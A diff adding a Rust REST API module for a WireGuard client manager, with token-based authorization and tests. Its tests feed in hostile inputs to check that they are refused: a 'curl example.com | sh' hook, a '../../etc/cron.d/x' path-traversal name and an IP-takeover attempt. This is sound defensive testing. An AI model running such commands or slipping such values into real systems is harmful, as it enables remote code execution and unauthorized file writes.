@@ -0,0 +1,549 @@
+/// Local HTTP REST API for managing clients.
+///
+/// Every endpoint goes through the same `Cli` operations as the corresponding command, so
+/// locking, committing and the JSON documents are identical to the CLI's `--output json`.
+///
+/// | Method   | Path              | Equivalent command    |
+/// |----------|-------------------|-----------------------|
+/// | `GET`    | `/clients`        | `client list`         |
+/// | `POST`   | `/clients`        | `client new`          |
+/// | `GET`    | `/clients/<name>` | `client show <name>`  |
+/// | `DELETE` | `/clients/<name>` | `client delete <name>`|
+/// | `GET`    | `/status`         | `status`              |
+/// | `GET`    | `/plan`           | `plan`                |
+///
+/// Invites are redeemed with `POST /invites/redeem`, which is authenticated by the invite's token
+/// rather than an API token.
+use std::{collections::BTreeMap, net::Ipv4Addr};
+
+use ipnet::{IpNet, Ipv4Net};
+use serde::Deserialize;
+
+use crate::auth::{self, Action, ApiToken, Role};
+use crate::http::{Request, Response};
+use crate::invite::InviteError;
+use crate::manager::{ClientFilter, ClientOptions};
+use crate::output::{ErrorBody, ErrorOutput};
+use crate::status::DEFAULT_ONLINE_THRESHOLD;
+use crate::tuning::Tuning;
+use crate::utils;
+use crate::{load_manager_no_lock, CLIError, Cli};
+
+/// Body of `POST /clients`
+#[derive(Deserialize)]
+struct NewClientRequest {
+    name: String,
+    ip: Ipv4Addr,
+    /// Defaults to the token's group for issuers
+    #[serde(default)]
+    groups: Vec<String>,
+    /// The client's own public key, otherwise a keypair is generated
+    #[serde(default)]
+    public_key: Option<String>,
+    /// Whether to generate a preshared key, defaulting to the server's setting
+    #[serde(default)]
+    psk: Option<bool>,
+    /// Whether to keep the generated private key, so that configs can be re-issued
+    #[serde(default)]
+    store_key: bool,
+    /// Unix timestamp after which the client is disabled
+    #[serde(default)]
+    expires_at: Option<u64>,
+    #[serde(default)]
+    owner: Option<String>,
+    #[serde(default)]
+    description: Option<String>,
+    #[serde(default)]
+    tags: BTreeMap<String, String>,
+    /// Networks behind the client, routed to it
+    #[serde(default, deserialize_with = "utils::deserialize_ipnets")]
+    subnets: Vec<Ipv4Net>,
+    /// Route everything through the VPN except these
+    #[serde(default, deserialize_with = "utils::deserialize_ipnets")]
+    route_all_except: Vec<IpNet>,
+    /// `mtu`, `persistent_keepalive`, `fwmark`, `table`, `post_up` and `post_down`
+    #[serde(flatten)]
+    tuning: Tuning,
+}
+
+/// Body of `POST /invites/redeem`
+#[derive(Deserialize)]
+struct RedeemInviteRequest {
+    token: String,
+    /// The client's own public key, otherwise a keypair is generated
+    #[serde(default)]
+    public_key: Option<String>,
+}
+
+pub struct Api<'a> {
+    cli: &'a Cli<'a>,
+}
+
+impl<'a> Api<'a> {
+    pub fn new(cli: &'a Cli<'a>) -> Self {
+        Api { cli }
+    }
+
+    pub fn handle(&self, request: Request) -> Response {
+        if request.path.trim_end_matches('/') == "/invites/redeem" {
+            return self.redeem_invite(&request);
+        }
+
+        let token = match self.authenticate(&request) {
+            Ok(token) => token,
+            Err(response) => return response,
+        };
+
+        let segments: Vec<&str> = request
+            .path
+            .split('/')
+            .filter(|segment| !segment.is_empty())
+            .collect();
+
+        if request.method == "GET" {
+            if let Err(response) = authorize(&token, &request, &Action::Read) {
+                return response;
+            }
+        }
+
+        let result = match (request.method.as_str(), segments.as_slice()) {
+            ("GET", ["clients"]) => self
+                .cli
+                .client_list(&ClientFilter::default())
+                .map(|out| Response::json(200, &out)),
+            ("POST", ["clients"]) => {
+                let mut body = match serde_json::from_slice::<NewClientRequest>(&request.body) {
+                    Ok(body) => body,
+                    Err(e) => return error(400, "invalid_request", e.to_string()),
+                };
+                if body.groups.is_empty() && token.role() == Role::Issuer {
+                    body.groups.extend(token.group().cloned());
+                }
+
+                if let Err(response) = authorize(
+                    &token,
+                    &request,
+                    &Action::CreateClient {
+                        groups: &body.groups,
+                    },
+                ) {
+                    return response;
+                }
+                // Routes and hooks reach beyond the client itself, so are only for admins
+                let routed = !body.subnets.is_empty()
+                    || !body.route_all_except.is_empty()
+                    || !body.tuning.post_up.is_empty()
+                    || !body.tuning.post_down.is_empty();
+                if routed {
+                    if let Err(response) = authorize(&token, &request, &Action::CreateRoutedClient)
+                    {
+                        return response;
+                    }
+                }
+                let options = ClientOptions {
+                    groups: body.groups,
+                    public_key: body.public_key,
+                    preshared_key: body.psk,
+                    store_key: body.store_key,
+                    expires_at: body.expires_at,
+                    owner: body.owner,
+                    description: body.description,
+                    tags: body.tags,
+                    subnets: body.subnets,
+                    route_all_except: body.route_all_except,
+                    tuning: body.tuning,
+                    created_by: Some(format!("token:{}", token.name())),
+                };
+                self.cli
+                    .client_new(body.name, body.ip, options)
+                    .map(|out| Response::json(201, &out))
+            }
+            ("GET", ["clients", name]) => self
+                .cli
+                .client_show(name)
+                .map(|out| Response::json(200, &out)),
+            ("DELETE", ["clients", name]) => {
+                if let Err(response) = authorize(&token, &request, &Action::DeleteClient) {
+                    return response;
+                }
+                self.cli
+                    .client_delete(name)
+                    .map(|out| Response::json(200, &out))
+            }
+            ("GET", ["status"]) => self
+                .cli
+                .status(DEFAULT_ONLINE_THRESHOLD)
+                .map(|out| Response::json(200, &out)),
+            ("GET", ["plan"]) => self.cli.plan().map(|out| Response::json(200, &out)),
+            (_, ["clients"]) | (_, ["clients", _]) | (_, ["status"]) | (_, ["plan"]) => {
+                return error(405, "method_not_allowed", "method not allowed".into())
+            }
+            _ => return error(404, "not_found", "no such endpoint".into()),
+        };
+
+        result.unwrap_or_else(|e| error(http_status(&e), e.kind(), e.to_string()))
+    }
+
+    fn redeem_invite(&self, request: &Request) -> Response {
+        if request.method != "POST" {
+            return error(405, "method_not_allowed", "method not allowed".into());
+        }
+
+        let body = match serde_json::from_slice::<RedeemInviteRequest>(&request.body) {
+            Ok(body) => body,
+            Err(e) => return error(400, "invalid_request", e.to_string()),
+        };
+
+        match self.cli.invite_redeem(&body.token, body.public_key) {
+            Ok(out) => Response::json(201, &out),
+            Err(e) => {
+                if let CLIError::InviteRejected(reason) = &e {
+                    log_denial(request, &reason.to_string());
+                }
+                error(http_status(&e), e.kind(), e.to_string())
+            }
+        }
+    }
+
+    /// Checks the request's bearer token against the tokens in the config
+    fn authenticate(&self, request: &Request) -> Result<ApiToken, Response> {
+        let secret = match request.header("authorization").and_then(auth::bearer_token) {
+            Some(secret) => secret,
+            None => {
+                log_denial(request, "missing bearer token");
+                return Err(error(401, "unauthorized", "missing bearer token".into()));
+            }
+        };
+
+        let manager = load_manager_no_lock(self.cli.config, self.cli.interface)
+            .map_err(|e| error(http_status(&e), e.kind(), e.to_string()))?;
+
+        match manager.authenticate(secret) {
+            Some(token) => Ok(token.clone()),
+            None => {
+                log_denial(request, "invalid bearer token");
+                Err(error(401, "unauthorized", "invalid bearer token".into()))
+            }
+        }
+    }
+}
+
+/// Checks that the token's role permits `action`, logging the request if it doesn't
+fn authorize(token: &ApiToken, request: &Request, action: &Action) -> Result<(), Response> {
+    if token.allows(action) {
+        return Ok(());
+    }
+
+    let message = match token.group() {
+        Some(group) => format!(
+            "token '{}' ({} for group '{}') may not {}",
+            token.name(),
+            token.role(),
+            group,
+            action
+        ),
+        None => format!(
+            "token '{}' ({}) may not {}",
+            token.name(),
+            token.role(),
+            action
+        ),
+    };
+    log_denial(request, &message);
+    Err(error(403, "forbidden", message))
+}
+
+fn log_denial(request: &Request, reason: &str) {
+    eprintln!("denied {} {}: {}", request.method, request.path, reason);
+}
+
+/// HTTP status for an error from a `Cli` operation
+fn http_status(e: &CLIError) -> u16 {
+    match e {
+        CLIError::ClientNotFound(_) => 404,
+        CLIError::ClientExists(_) | CLIError::PublicKeyExists(_) => 409,
+        CLIError::InvalidPublicKey(_) | CLIError::InvalidName(_) => 400,
+        CLIError::IpUnavailable(_) => 409,
+        CLIError::InviteRejected(InviteError::NotFound) => 404,
+        CLIError::InviteRejected(_) => 410,
+        CLIError::ClapError(_) => 400,
+        // The config is being edited, so the client should try again
+        CLIError::LockAcquisitionError(_) => 503,
+        _ => 500,
+    }
+}
+
+/// An error response, in the same format as the CLI's JSON errors
+fn error(status: u16, kind: &str, message: String) -> Response {
+    Response::json(
+        status,
+        &ErrorOutput {
+            error: ErrorBody {
+                code: status as i32,
+                kind,
+                message,
+            },
+        },
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use std::{
+        io::{Read, Write},
+        net::{TcpListener, TcpStream},
+    };
+
+    use super::*;
+    use crate::config::Config;
+    use crate::http;
+    use crate::manager::Manager;
+    use crate::output::OutputFormat;
+
+    const ALICE_KEY: &str = "YNqHbfBQKaGvzefSSTlTb4rFNH5DF9UQ0UV0YYuG1XU=";
+
+    /// Sends a request to the server at `addr`, with `token` as the bearer token if given,
+    /// returning the status and body
+    fn post(
+        addr: std::net::SocketAddr,
+        path: &str,
+        token: Option<&str>,
+        body: &str,
+    ) -> (u16, String) {
+        let authorization = token
+            .map(|token| format!("Authorization: Bearer {}\r\n", token))
+            .unwrap_or_default();
+        let mut stream = TcpStream::connect(addr).unwrap();
+        write!(
+            stream,
+            "POST {} HTTP/1.1\r\nHost: localhost\r\n{}Content-Length: {}\r\n\r\n{}",
+            path,
+            authorization,
+            body.len(),
+            body
+        )
+        .unwrap();
+
+        let mut response = String::new();
+        stream.read_to_string(&mut response).unwrap();
+        let status = response[9..12].parse().unwrap();
+        let body = response.split_once("\r\n\r\n").unwrap().1.to_owned();
+        (status, body)
+    }
+
+    /// A config with alice at 10.0.0.2 and no tokens or invites
+    fn manager() -> Manager {
+        serde_json::from_str(
+            r#"{
+                "interface_name": "wg0",
+                "private_key": "server-private",
+                "public_key": "server-public",
+                "endpoint": "1.2.3.4:51900",
+                "ip_range": "10.0.0.0/24",
+                "clients": {
+                    "alice": {"name": "alice", "public_key": "A=", "ip": "10.0.0.2"}
+                },
+                "wg": {"binary_path": "wg"}
+            }"#,
+        )
+        .unwrap()
+    }
+
+    /// Serves the API for `config` while `send` makes `count` requests, returning the responses.
+    ///
+    /// Responses are collected before checking them, so that a failure can't leave the server
+    /// waiting for connections that never come.
+    fn serve(
+        config: &std::path::Path,
+        count: usize,
+        send: impl FnOnce(std::net::SocketAddr) -> Vec<(u16, String)>,
+    ) -> Vec<(u16, String)> {
+        // Dry run, so that nothing touches a real interface
+        let cli = Cli {
+            config,
+            interface: None,
+            dry_run: true,
+            output: OutputFormat::Json,
+        };
+        let api = Api::new(&cli);
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let addr = listener.local_addr().unwrap();
+
+        std::thread::scope(|scope| {
+            scope.spawn(|| {
+                http::serve(listener.incoming().take(count), |request| {
+                    api.handle(request)
+                })
+            });
+            send(addr)
+        })
+    }
+
+    #[test]
+    fn test_new_client() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = dir.path().join("wgman.conf");
+
+        let mut manager = manager();
+        let admin = manager
+            .new_api_token("admin".into(), Role::Admin, None, 0)
+            .unwrap();
+        Config::new(manager).save_config(&config).unwrap();
+
+        let new_client = |addr, name: &str, ip: &str| {
+            post(
+                addr,
+                "/clients",
+                Some(&admin),
+                &format!(
+                    r#"{{"name": "{}", "ip": "{}", "public_key": "{}"}}"#,
+                    name, ip, ALICE_KEY
+                ),
+            )
+        };
+        let responses = serve(&config, 4, |addr| {
+            vec![
+                // Alice's address, which would take over her traffic
+                new_client(addr, "mallory", "10.0.0.2"),
+                new_client(addr, "mallory", "10.0.1.2"),
+                new_client(addr, "../../etc/cron.d/x", "10.0.0.3"),
+                new_client(addr, "bob", "10.0.0.3"),
+            ]
+        });
+
+        assert_eq!(responses[0].0, 409, "{}", responses[0].1);
+        assert!(
+            responses[0].1.contains("ip_unavailable"),
+            "{}",
+            responses[0].1
+        );
+        assert_eq!(responses[1].0, 409, "{}", responses[1].1);
+        assert_eq!(responses[2].0, 400, "{}", responses[2].1);
+        assert!(
+            responses[2].1.contains("invalid_name"),
+            "{}",
+            responses[2].1
+        );
+        assert_eq!(responses[3].0, 201, "{}", responses[3].1);
+
+        let manager = Config::from_config(&config)
+            .unwrap()
+            .take_interface(None)
+            .unwrap();
+        assert!(manager.client("mallory").is_err());
+        assert_eq!(manager.client("bob").unwrap().public_key(), ALICE_KEY);
+    }
+
+    #[test]
+    fn test_new_client_issuer() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = dir.path().join("wgman.conf");
+
+        let mut manager = manager();
+        let issuer = manager
+            .new_api_token("issuer".into(), Role::Issuer, Some("staff".into()), 0)
+            .unwrap();
+        Config::new(manager).save_config(&config).unwrap();
+
+        let new_client = |addr, name: &str, extra: &str| {
+            post(
+                addr,
+                "/clients",
+                Some(&issuer),
+                &format!(
+                    r#"{{"name": "{}", "ip": "10.0.0.10", "public_key": "{}"{}}}"#,
+                    name, ALICE_KEY, extra
+                ),
+            )
+        };
+        let responses = serve(&config, 4, |addr| {
+            vec![
+                new_client(addr, "lan", r#", "subnets": ["192.168.1.0/24"]"#),
+                new_client(addr, "split", r#", "route_all_except": ["10.0.0.0/8"]"#),
+                new_client(addr, "hook", r#", "post_up": ["curl example.com | sh"]"#),
+                new_client(addr, "dave", ""),
+            ]
+        });
+
+        for (status, body) in &responses[..3] {
+            assert_eq!(*status, 403, "{}", body);
+            assert!(body.contains("forbidden"), "{}", body);
+        }
+        assert_eq!(responses[3].0, 201, "{}", responses[3].1);
+
+        let manager = Config::from_config(&config)
+            .unwrap()
+            .take_interface(None)
+            .unwrap();
+        assert!(manager.client("lan").is_err());
+        assert_eq!(*manager.client("dave").unwrap().groups(), ["staff"]);
+    }
+
+    #[test]
+    fn test_redeem_invite() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = dir.path().join("wgman.conf");
+
+        let mut manager = manager();
+        manager.delete_client("alice").unwrap();
+        let now = crate::utils::unix_now();
+        let alice = manager
+            .new_invite(
+                "alice".into(),
+                "10.0.0.2".parse().unwrap(),
+                vec![],
+                now,
+                3600,
+            )
+            .unwrap();
+        let bob = manager
+            .new_invite("bob".into(), "10.0.0.3".parse().unwrap(), vec![], now, 0)
+            .unwrap();
+        Config::new(manager).save_config(&config).unwrap();
+
+        let redeem = |addr, token: &str| {
+            post(
+                addr,
+                "/invites/redeem",
+                None,
+                &format!(
+                    r#"{{"token": "{}", "public_key": "YNqHbfBQKaGvzefSSTlTb4rFNH5DF9UQ0UV0YYuG1XU="}}"#,
+                    token
+                ),
+            )
+        };
+
+        let responses = serve(&config, 4, |addr| {
+            vec![
+                redeem(addr, &alice),
+                redeem(addr, &alice),
+                redeem(addr, &bob),
+                redeem(addr, "wgi_nonsense"),
+            ]
+        });
+
+        let (status, body) = &responses[0];
+        assert_eq!(*status, 201, "{}", body);
+        assert!(
+            body.contains(&format!("\"public_key\": \"{}\"", ALICE_KEY)),
+            "{}",
+            body
+        );
+        assert!(responses[1].1.contains("invite_used"), "{}", responses[1].1);
+        assert_eq!(responses[1].0, 410);
+        assert!(
+            responses[2].1.contains("invite_expired"),
+            "{}",
+            responses[2].1
+        );
+        assert_eq!(responses[2].0, 410);
+        assert_eq!(responses[3].0, 404);
+
+        let manager = Config::from_config(&config)
+            .unwrap()
+            .take_interface(None)
+            .unwrap();
+        assert_eq!(manager.client("alice").unwrap().public_key(), ALICE_KEY);
+        assert!(manager.client("bob").is_err());
+    }
+}